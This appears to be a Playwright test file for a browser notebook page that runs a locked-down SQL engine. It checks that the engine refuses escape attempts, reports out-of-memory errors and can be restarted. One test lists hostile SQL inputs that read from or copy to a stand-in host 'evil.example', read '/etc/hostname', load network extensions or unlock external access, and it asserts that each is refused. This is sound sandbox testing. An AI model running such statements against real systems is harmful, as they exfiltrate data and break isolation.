// The page's own engine: locked in the real browser, and a way back when it fails.
import { expect, test, type Page } from '@playwright/test';
import { askEngine, failEngineWith, openSideDoor } from './engine-worker.ts';
import { choose, chooseUntil, inPhase, openPage, pageAddress, settled, startOver } from './notebook-page.ts';
import { SHOP_CSV } from './shop-oracle.ts';
import { watchNetwork, type Watch } from './watch-network.ts';

const file = { name: 'shop.csv', content: SHOP_CSV };
let page: Page;
let watch: Watch;
test.beforeAll(async ({ browser }) => {
	const context = await browser.newContext();
	watch = await watchNetwork(context);
	page = await context.newPage();
	await openSideDoor(page);
	await openPage(page);
	await chooseUntil(page, 'ready', file);
	await settled(page);
});
test.afterAll(() => page.context().close());

test('the locked engine refuses every way out, without asking anybody', async () => {
	const before = watch.inside.length;
	const ours = `${pageAddress()}samples/shop-en.csv`;
	for (const refused of [
		"SELECT * FROM read_csv('https://evil.example/x.csv')",
		`SELECT * FROM read_csv('${ours}')`,
		`SELECT * FROM '${ours}'`,
		"SELECT * FROM read_parquet('https://evil.example/x.parquet')",
		"SELECT * FROM read_text('/etc/hostname')",
		"ATTACH 'https://evil.example/x.db'",
		"ATTACH 'x.db'",
		'LOAD httpfs',
		'LOAD icu',
		"COPY (SELECT 1) TO 'https://evil.example/x.csv'",
		"COPY (SELECT 1) TO 'elsewhere/x.csv'",
		"COPY (SELECT 1) TO 'upload/../elsewhere.csv'",
		"EXPORT DATABASE 'elsewhere'",
		'SET enable_external_access = true',
		'SET lock_configuration = false',
		'SET autoinstall_known_extensions = true',
		"SET custom_extension_repository = 'https://evil.example'",
		'RESET allowed_directories',
	])
		expect.soft(await askEngine(page, refused), refused).not.toBe('done');
	// These may fail or work (INSTALL does nothing in this build), but must not ask anybody.
	for (const quiet of ['SELECT current_date', 'SELECT now()', "INSTALL httpfs FROM 'https://evil.example'"])
		await askEngine(page, quiet);
	expect(await askEngine(page, 'SELECT count(*) FROM quintile.lines')).toBe('done');
	expect(watch.outside).toEqual([]);
	expect(watch.inside.slice(before)).toEqual([]);
});

test('out of memory is said, starting over boots a new engine, and preferences are kept', async () => {
	await page.getByTestId('bins').selectOption('4');
	await settled(page);
	await startOver(page);
	await failEngineWith(page, 'Out of Memory Error: could not allocate block of size 256.0 KiB');
	await choose(page, file);
	await inPhase(page, 'failed');
	await expect(page.getByTestId('problem-what')).toHaveText('The browser ran out of memory for this file.');
	await expect(page.getByTestId('problem-todo')).toContainText('Start over');
	await failEngineWith(page, null);
	await startOver(page);
	await chooseUntil(page, 'ready', file);
	await settled(page);
	await expect(page.locator('[role=gridcell]')).toHaveCount(16);
});

test('an engine that fails under an open notebook is not passed over in silence', async () => {
	await failEngineWith(page, 'memory access out of bounds');
	await page.getByTestId('download-customers').click();
	await expect(page.getByRole('alert')).toBeVisible();
	await failEngineWith(page, null);
});
